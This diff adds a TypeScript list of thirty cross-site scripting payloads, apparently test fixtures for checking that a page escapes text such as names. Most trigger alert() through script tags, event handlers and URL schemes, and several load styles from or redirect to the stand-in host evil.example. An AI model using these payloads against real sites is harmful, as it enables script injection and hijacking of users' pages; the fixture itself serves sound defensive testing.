@@ -1,0 +1,36 @@
+/**
+ * Thirty texts that would become script, markup or style on a page that takes them for more than text. What runs calls
+ * `alert`. Each is one line of at most 100 characters, so that it can be a name anywhere. The last one leaves the page.
+ */
+export const SCRIPT_TEXTS: readonly string[] = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(2)</script>',
+  '</title></textarea></style><script>alert(3)</script>',
+  '<ScRiPt/x>alert(4)</sCrIpT >',
+  '<script/src=data:,alert(5)></script>',
+  '<img src=x onerror=alert(6)>',
+  '"><img src=x onerror=alert(7)>',
+  `'><img src=x onerror='alert(8)`,
+  '<img/src/onerror=alert(9)>',
+  '<svg onload=alert(10)>',
+  '<svg><animate onbegin=alert(11) attributeName=x dur=1s>',
+  '<svg><script>alert&#40;12&#41;</script>',
+  '<body onload=alert(13)>',
+  '<iframe srcdoc="<script>parent.alert(14)</script>">',
+  '<iframe src="javascript:parent.alert(15)">',
+  '<details open ontoggle=alert(16)>',
+  '<input autofocus onfocus=alert(17)>',
+  '" autofocus onfocus=alert(18) x="',
+  '<video><source onerror=alert(19)>',
+  '<a href="javascript:alert(20)">x</a>',
+  'javascript:alert(21)//',
+  'data:text/html,<script>alert(22)</script>',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>*{background:url(https://evil.example/x)}</style>',
+  '{{constructor.constructor("alert(26)")()}}${alert(26)}',
+  '＜script＞alert(27)＜/script＞',
+  '\u202e>tpircs/<)82(trela>tpircs<',
+  '<math><mi xlink:href="data:x,<script>alert(29)</script>"><img src=x onerror=alert(29)>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+];
